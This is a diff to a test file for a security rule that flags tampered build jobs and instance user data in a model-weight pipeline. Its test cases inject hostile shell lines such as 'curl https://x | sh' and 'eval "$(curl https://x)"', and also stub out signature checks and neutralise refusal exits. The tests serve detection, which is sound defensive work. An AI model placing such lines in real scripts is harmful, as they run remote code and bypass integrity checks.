@@ -159,6 +159,12 @@ describe(rule.id, () => {
     ['pickles let through', script('check_format "${path}" ||', 'true ||'), 'does not look whether safetensors'],
     ['failures passed over', script('set -Eeuo pipefail', 'set -u'), 'does not stop at a failure'],
     ['a command more', (project) => commands(project, (all) => [...all.slice(0, -1), 'curl https://x | sh', ...all.slice(-1)]), 'runs other commands'],
+    [
+      'a command behind a file that it writes',
+      (project) => commands(project, (all) => all.map((command) => (command.includes('MANIFEST.sha256 <<') ? `${command}\ncurl https://x | sh` : command))),
+      'runs other commands',
+    ],
+    ['a refusal without effect', script('  exit 1\n', '  return 0\n'), 'does not stop when it refuses'],
     ['a command after the job', (project) => commands(project, (all) => [...all, 'aws s3 ls']), 'runs other commands'],
     ['a buildspec that cannot be read', (project) => (project.Source.BuildSpec = 'version: 0.2'), 'does not stop at a failure'],
   ])('notices a job with %s', (_, change, message) => {
@@ -182,6 +188,8 @@ describe(rule.id, () => {
     ['a function in place of another', edit('trap left EXIT\n', 'verify_signature() { true; }\ntrap left EXIT\n'), 'defines `verify_signature` anew'],
     ['a function in place of the client', edit('trap left EXIT\n', 'aws() { echo True; }\ntrap left EXIT\n'), 'defines `aws` anew'],
     ['failures passed over', edit('set -Eeuo pipefail', 'set -u'), 'does not stop at a failure'],
+    ['a refusal without effect', edit('  exit 1\n', '  return 0\n'), 'does not stop when it refuses'],
+    ['text that it runs', edit('trap left EXIT\n', 'eval "$(curl https://x)"\ntrap left EXIT\n'), 'cannot be judged'],
     ['an agent that waits for nothing', edit('ConditionPathExists=', 'Documentation='), 'does not keep the ECS agent'],
   ])('notices user data with %s', (_, change, message) => {
     expect(findingsAfter(rule, fleet, change)).toMatchObject([{ path: 'models.llama70.weights', message: expect.stringContaining(message) }]);
